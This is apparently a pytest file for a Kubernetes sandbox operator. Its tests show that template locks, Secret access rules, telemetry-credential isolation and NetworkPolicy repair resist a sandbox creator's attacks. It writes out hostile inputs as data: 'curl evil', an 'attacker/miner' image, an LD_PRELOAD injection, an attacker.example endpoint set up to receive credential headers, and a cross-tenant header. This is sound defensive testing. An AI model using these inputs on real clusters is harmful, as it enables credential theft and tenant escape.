"""What a Sandbox's creator may not do (docs/security.md): lift a template's locks, reach a Secret it was not
given, send the template's or the platform's telemetry credentials to an endpoint of its choosing, run as the
sidecar's user; and the NetworkPolicy put back when it was deleted or edited. Each attack is built here as a
plain Sandbox/template and shown to fail in the pure planner and builders."""

from __future__ import annotations

import datetime
from typing import Any

import pytest

import leap0_contract as contract
from leap0_operator import secrets
from leap0_operator.config import OperatorConfig
from leap0_operator.network import Network, build_network_policy, policy_digest, trim_policy
from leap0_operator.pod import build_pod
from leap0_operator.reconcile import plan, policy_action, waiting_for_secrets
from leap0_operator.resolve import SpecError, locked_fields, resolve

CONFIG = OperatorConfig(sidecar_image="sidecar:test")
PLATFORM = OperatorConfig(
    sidecar_image="sidecar:test",
    default_otlp_secret="platform-otlp",
    telemetry_token_audience="leap0-telemetry",
)
T0 = datetime.datetime(2026, 1, 1, 12, 0, tzinfo=datetime.UTC)
AUTH = {"name": "OTEL_EXPORTER_OTLP_HEADERS", "valueFrom": {"secretKeyRef": {"name": "tok", "key": "h"}}}
TEMPLATE_DESTINATION = [
    {"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "https://collector.platform:4318"},
    AUTH,
]


def sandbox(
    spec: dict[str, Any], name: str = "sbx-1", status: dict[str, Any] | None = None
) -> dict[str, Any]:
    return {
        "apiVersion": contract.API_VERSION,
        "kind": contract.SANDBOX_KIND,
        "metadata": {
            "name": name,
            "namespace": "team-a",
            "uid": f"uid-{name}",
            "generation": 1,
            "creationTimestamp": "2026-01-01T12:00:00Z",
        },
        "spec": spec,
        "status": status or {},
    }


def at(seconds: float) -> datetime.datetime:
    return T0 + datetime.timedelta(seconds=seconds)


def refusal(
    spec: dict[str, Any], template: dict[str, Any] | None, config: OperatorConfig = CONFIG
) -> SpecError:
    with pytest.raises(SpecError) as caught:
        resolve(spec, template, config)
    return caught.value


def sidecar_env(pod: dict[str, Any]) -> dict[str, Any]:
    (sidecar,) = [c for c in pod["spec"]["initContainers"] if c["name"] == contract.TELEMETRY_CONTAINER]
    return {v["name"]: v.get("value", v.get("valueFrom")) for v in sidecar["env"]}


def app_env(pod: dict[str, Any]) -> dict[str, Any]:
    (app,) = pod["spec"]["containers"]
    return {v["name"]: v.get("value", v.get("valueFrom")) for v in app.get("env", [])}


def pod_of(spec: dict[str, Any], template: dict[str, Any] | None, config: OperatorConfig = CONFIG) -> Any:
    effective = resolve(spec, template, config)
    return build_pod(owner=sandbox(spec), effective=effective, org_id="acme", config=config)


# --- template locks ---
def test_a_templates_deny_all_is_final_without_saying_it_twice() -> None:
    """The reported attack: create_sandbox(template=locked, network={"policy": "AllowAll"})."""
    template = {"network": {"policy": "DenyAll"}}
    assert locked_fields(template) == ("network",)
    error = refusal({"network": {"policy": "AllowAll"}}, template)
    assert error.reason == contract.REASON_FIELD_LOCKED
    assert error.message.startswith('spec.network is locked by SandboxTemplate "default"')
    assert '{"policy": "DenyAll"}' in error.message
    decision = plan(sandbox({"network": {"policy": "AllowAll"}}), template, None, at(1), CONFIG)
    assert decision.status is not None
    assert (decision.status["phase"], decision.status["reason"]) == ("Failed", "FieldLocked")
    assert decision.effective is None  # no pod
    assert decision.network_policy is None
    # asking for the template's own network, or for less, is fine
    assert resolve({"network": {"policy": "DenyAll"}}, template, CONFIG).network.policy == "DenyAll"


@pytest.mark.parametrize(
    ("template_network", "asked", "allowed"),
    [
        ({"policy": "Internet"}, {"policy": "AllowAll"}, False),
        ({"policy": "Internet"}, {"policy": "Custom", "allowCidrs": ["10.0.0.0/8"]}, False),
        ({"policy": "Internet"}, {"policy": "DenyAll"}, True),  # only narrows
        ({"policy": "Custom", "allowCidrs": ["203.0.113.0/24"]}, {"policy": "Internet"}, False),
        (
            {"policy": "Custom", "allowCidrs": ["203.0.113.0/24"]},
            {"policy": "Custom", "allowCidrs": ["0.0.0.0/0"]},
            False,
        ),
        (
            {"policy": "Custom", "allowCidrs": ["203.0.113.0/24"]},
            {"policy": "Custom", "allowCidrs": ["203.0.113.0/24"]},
            True,
        ),
    ],
)
def test_a_templates_network_cannot_be_widened(
    template_network: dict[str, Any], asked: dict[str, Any], allowed: bool
) -> None:
    template = {"network": template_network}
    if allowed:
        assert resolve({"network": asked}, template, CONFIG).network.policy == asked["policy"]
    else:
        assert refusal({"network": asked}, template).reason == contract.REASON_FIELD_LOCKED


def test_lockedFields_says_exactly_what_is_locked() -> None:
    # an empty list leaves the network to the Sandbox
    open_template = {"network": {"policy": "DenyAll"}, "lockedFields": []}
    assert resolve({"network": {"policy": "AllowAll"}}, open_template, CONFIG).network.policy == "AllowAll"
    # a template without a network locks nothing by default: the operator's default applies
    assert locked_fields({"image": "python:3.12"}) == ()
    assert (
        resolve({"network": {"policy": "AllowAll"}}, {"image": "python:3.12"}, CONFIG).network.source
        == "sandbox"
    )
    # a locked field the template does not set may not be set at all
    strict = {"lockedFields": ["network", "telemetry", "command"]}
    for spec, field in (
        ({"network": {"policy": "Internet"}}, "network"),
        ({"telemetry": {"enabled": False}}, "telemetry"),
        ({"command": ["sh", "-c", "curl evil"]}, "command"),
    ):
        error = refusal(spec, strict)
        assert error.message.startswith(f"spec.{field} is locked"), error.message
        assert "may not set it" in error.message
    # locked image and env: only the template's own value
    pinned = {
        "image": "registry.example/agent:1",
        "env": [{"name": "A", "value": "1"}],
        "lockedFields": ["image", "env"],
    }
    assert refusal({"image": "attacker/miner"}, pinned).message.startswith("spec.image is locked")
    assert refusal({"env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}, pinned).message.startswith("spec.env")
    assert resolve({"image": "registry.example/agent:1"}, pinned, CONFIG).image == "registry.example/agent:1"
    # a name that is not lockable (from a CRD older than the operator) is ignored
    assert locked_fields({"lockedFields": ["timeout", "network"]}) == ("network",)


def test_the_sidecars_uid_and_gid_are_refused_in_templates() -> None:
    for field in ("runAsUser", "runAsGroup", "fsGroup"):
        error = refusal({}, {"podSecurity": "restricted", field: contract.SIDECAR_UID})
        assert error.reason == contract.REASON_INVALID_SPEC
        assert f"the template's {field} 65532 is the telemetry sidecar's own user or group" in error.message


# --- the telemetry destination is one unit ---
def test_a_sandbox_endpoint_inherits_no_template_headers() -> None:
    """The reported attack: the template's Authorization header sent to an endpoint the creator chose."""
    template = {"env": TEMPLATE_DESTINATION}
    spec = {"env": [{"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "https://attacker.example"}]}
    env = sidecar_env(pod_of(spec, template))
    assert env["OTEL_EXPORTER_OTLP_ENDPOINT"] == "https://attacker.example"
    assert "OTEL_EXPORTER_OTLP_HEADERS" not in env
    # without the sidecar the app exports itself: the same rule
    env = app_env(pod_of({**spec, "telemetry": {"enabled": False}}, template))
    assert env["OTEL_EXPORTER_OTLP_ENDPOINT"] == "https://attacker.example"
    assert "OTEL_EXPORTER_OTLP_HEADERS" not in env


@pytest.mark.parametrize("signal", ["TRACES", "METRICS", "LOGS"])
def test_a_per_signal_endpoint_inherits_no_template_headers(signal: str) -> None:
    template = {
        "env": [*TEMPLATE_DESTINATION, {"name": f"OTEL_EXPORTER_OTLP_{signal}_HEADERS", "value": "x=1"}]
    }
    spec = {
        "env": [{"name": f"OTEL_EXPORTER_OTLP_{signal}_ENDPOINT", "value": "https://attacker.example/v1"}]
    }
    env = sidecar_env(pod_of(spec, template))
    assert not [n for n in env if n.startswith("OTEL_EXPORTER_OTLP_") and "ENDPOINT" not in n]
    assert "OTEL_EXPORTER_OTLP_ENDPOINT" not in env  # the template's destination is not half kept either


def test_a_sandbox_cannot_add_its_headers_to_a_destination_it_did_not_choose() -> None:
    """A tenant header (X-Scope-OrgID) on the template's or the platform's endpoint would write as another
    tenant."""
    spec = {"env": [{"name": "OTEL_EXPORTER_OTLP_HEADERS", "value": "X-Scope-OrgID=victim"}]}
    error = refusal(spec, {"env": TEMPLATE_DESTINATION})
    assert error.reason == contract.REASON_INVALID_SPEC
    assert error.message.startswith("spec.env sets OTEL_EXPORTER_OTLP_HEADERS but no OTLP endpoint")
    assert refusal(spec, None, PLATFORM).reason == contract.REASON_INVALID_SPEC
    # with no destination anywhere, they are the Sandbox's own business (export stays off)
    assert resolve(spec, None, CONFIG).env == (
        {"name": "OTEL_EXPORTER_OTLP_HEADERS", "value": "X-Scope-OrgID=victim"},
    )


def test_the_platform_destination_stays_a_secret_reference_and_goes_with_its_token_only() -> None:
    pod = pod_of({}, None, PLATFORM)
    env = sidecar_env(pod)
    assert env["OTEL_EXPORTER_OTLP_ENDPOINT"] == {
        "secretKeyRef": {"name": "platform-otlp", "key": "endpoint", "optional": True}
    }
    assert env["OTEL_EXPORTER_OTLP_HEADERS"] == {
        "secretKeyRef": {"name": "platform-otlp", "key": "headers", "optional": True}
    }
    assert env[contract.ENV_TELEMETRY_TOKEN_FILE] == "/var/run/secrets/leap0.dev/telemetry/token"
    (volume,) = [v for v in pod["spec"]["volumes"] if v["name"] == contract.TELEMETRY_TOKEN_VOLUME]
    assert volume["projected"]["sources"] == [
        {"serviceAccountToken": {"audience": "leap0-telemetry", "expirationSeconds": 3600, "path": "token"}}
    ]
    (sidecar,) = [c for c in pod["spec"]["initContainers"] if c["name"] == contract.TELEMETRY_CONTAINER]
    (app,) = pod["spec"]["containers"]
    assert {
        "name": "telemetry-token",
        "mountPath": "/var/run/secrets/leap0.dev/telemetry",
        "readOnly": True,
    } in (sidecar["volumeMounts"])
    assert all(m["name"] != contract.TELEMETRY_TOKEN_VOLUME for m in app["volumeMounts"])  # never in the app
    assert pod["spec"]["automountServiceAccountToken"] is False  # no API token anywhere
    # a Sandbox with its own endpoint gets neither the platform's Secret nor its token
    own = pod_of(
        {"env": [{"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "https://mine.example"}]}, None, PLATFORM
    )
    assert "platform-otlp" not in str(own)
    assert contract.TELEMETRY_TOKEN_VOLUME not in str(own)
    # a plain default endpoint is a value (it is a setting, not a secret), the Secret still gives the headers
    plain = OperatorConfig(default_otlp_endpoint="http://collector:4318", default_otlp_secret="platform-otlp")
    env = sidecar_env(pod_of({}, None, plain))
    assert env["OTEL_EXPORTER_OTLP_ENDPOINT"] == "http://collector:4318"
    assert env["OTEL_EXPORTER_OTLP_HEADERS"]["secretKeyRef"]["name"] == "platform-otlp"


# --- Secrets a sandbox may reference ---
def _meta(owner: str | None = None, **labels: str) -> dict[str, Any]:
    meta: dict[str, Any] = {"labels": labels}
    if owner:
        meta["ownerReferences"] = [{"uid": owner}]
    return {"metadata": meta}


def test_only_owned_or_labelled_secrets_may_be_referenced() -> None:
    env = [
        {"name": "OWN", "valueFrom": {"secretKeyRef": {"name": "sbx-1-otlp", "key": "k"}}},
        {"name": "SHARED", "valueFrom": {"secretKeyRef": {"name": "shared", "key": "k"}}},
        {"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": "db-creds", "key": "password"}}},
        {"name": "OTHERS", "valueFrom": {"secretKeyRef": {"name": "sbx-2-otlp", "key": "k"}}},
        {"name": "LATER", "valueFrom": {"secretKeyRef": {"name": "later", "key": "k"}}},
        {"name": "MAYBE", "valueFrom": {"secretKeyRef": {"name": "absent", "key": "k", "optional": True}}},
        {"name": "PLAIN", "value": "x"},
    ]
    found = {
        "sbx-1-otlp": _meta(owner="uid-sbx-1"),
        "shared": _meta(**{contract.LABEL_SANDBOX_ENV: "true"}),
        "db-creds": _meta(),
        "sbx-2-otlp": _meta(owner="uid-sbx-2"),  # another sandbox's headers
        "later": None,
        "absent": None,
    }
    refs = secrets.secret_refs(env)
    assert [r.var for r in refs] == ["OWN", "SHARED", "STOLEN", "OTHERS", "LATER", "MAYBE"]
    verdict = secrets.check(refs, found, "uid-sbx-1")
    assert [r.var for r in verdict.refused] == ["STOLEN", "OTHERS"]
    assert [r.var for r in verdict.missing] == ["LATER"]
    assert not verdict.allowed
    # "false", or any other value, is no consent
    assert not secrets.may_reference(_meta(**{contract.LABEL_SANDBOX_ENV: "yes"}), "uid-sbx-1")
    message = secrets.refused_message(verdict.refused)
    assert 'STOLEN (Secret "db-creds")' in message
    assert 'leap0.dev/sandbox-env: "true"' in message


def test_a_missing_secret_waits_then_times_out() -> None:
    spec = {
        "timeout": 3600,
        "env": [{"name": "H", "valueFrom": {"secretKeyRef": {"name": "sbx-1-otlp", "key": "k"}}}],
    }
    effective = resolve(spec, None, CONFIG)
    missing = secrets.check(secrets.secret_refs(effective.env), {"sbx-1-otlp": None}, "uid-sbx-1").missing
    waiting = waiting_for_secrets(sandbox(spec), effective, missing, at(0.5), CONFIG)
    assert waiting.status is not None
    assert (waiting.status["phase"], waiting.status["reason"]) == ("Pending", "SecretNotFound")
    assert waiting.status["message"].startswith('waiting for env H (Secret "sbx-1-otlp") to exist')
    assert waiting.effective is None
    assert waiting.wake_at == at(1.5)  # looked at again in 1 s
    later = waiting_for_secrets(sandbox(spec), effective, missing, at(300), CONFIG)
    assert later.wake_at == at(330)  # less often as it ages, at most every 30 s
    gone = waiting_for_secrets(sandbox(spec), effective, missing, at(CONFIG.startup_timeout_s), CONFIG)
    assert gone.status is not None
    assert (gone.status["phase"], gone.status["reason"]) == ("Failed", contract.REASON_STARTUP_TIMEOUT)
    assert "still did not exist 600 s after the Sandbox was created" in gone.status["message"]


# --- NetworkPolicy drift repair ---
RUNNING_POD = {
    "metadata": {
        "name": "sbx-1",
        "uid": "pod-1",
        "ownerReferences": [{"uid": "uid-sbx-1", "controller": True}],
    },
    "status": {"phase": "Running"},
}


def _recorded(policy: str, cidrs: tuple[str, ...] = ()) -> dict[str, Any]:
    network: dict[str, Any] = {
        "policy": policy,
        "source": "template",
        "networkPolicy": "sbx-1",
        "message": "m",
    }
    if cidrs:
        network["allowCidrs"] = list(cidrs)
    return {
        "phase": "Running",
        "podName": "sbx-1",
        "vcpu": 1,
        "memory": 1024,
        "templateId": "default",
        "network": network,
    }


def test_a_deleted_or_edited_policy_is_put_back_as_recorded() -> None:
    status = _recorded("Custom", ("203.0.113.0/24",))
    body = sandbox({}, status=status)
    desired = build_network_policy(
        owner=body, network=Network("Custom", ("203.0.113.0/24",)), settings=CONFIG.network
    )
    assert desired is not None
    # deleted: created again
    decision = plan(body, None, RUNNING_POD, at(10), CONFIG, None)
    assert decision.network_policy == desired
    assert decision.policy_version is None
    # edited (an egress rule to everything added): replaced over the live version
    edited = {**desired, "metadata": {**desired["metadata"], "resourceVersion": "42"}}
    edited["spec"] = {**desired["spec"], "egress": [*desired["spec"]["egress"], {}]}
    decision = plan(body, None, RUNNING_POD, at(10), CONFIG, trim_policy(edited))
    assert decision.network_policy == desired
    assert decision.policy_version == "42"
    # an empty namespaceSelector means every namespace: an edit, not a formatting difference
    widened = {**desired, "metadata": {**desired["metadata"], "resourceVersion": "43"}}
    rules = [dict(r) for r in desired["spec"]["egress"]]
    rules[0] = {**rules[0], "to": [{**rules[0]["to"][0], "namespaceSelector": {}}]}
    widened["spec"] = {**desired["spec"], "egress": rules}
    assert policy_digest(widened) != policy_digest(desired)
    # unchanged (ports' protocol left to the server's default is the same spec): nothing to do
    same = plan(
        body,
        None,
        RUNNING_POD,
        at(10),
        CONFIG,
        trim_policy({**desired, "metadata": {"resourceVersion": "7"}}),
    )
    assert same.network_policy is None
    # the template changed meanwhile: the sandbox keeps the network it was created with
    assert policy_action(body, Network("Custom", ("203.0.113.0/24",)), trim_policy(desired), CONFIG) == (
        None,
        None,
    )


def test_a_custom_network_recorded_without_its_cidrs_is_left_alone() -> None:
    """A status written by an operator that did not record the CIDRs: restoring without them would cut the
    sandbox off; the live policy is left as it is."""
    status = _recorded("Custom", ("203.0.113.0/24",))
    del status["network"]["allowCidrs"]
    assert plan(sandbox({}, status=status), None, RUNNING_POD, at(10), CONFIG, None).network_policy is None


def test_allow_all_and_ended_sandboxes_need_no_policy() -> None:
    assert (
        plan(sandbox({}, status=_recorded("AllowAll")), None, RUNNING_POD, at(10), CONFIG).network_policy
        is None
    )
    ended = {**RUNNING_POD, "status": {"phase": "Failed", "containerStatuses": []}}
    assert plan(sandbox({}, status=_recorded("DenyAll")), None, ended, at(10), CONFIG).network_policy is None
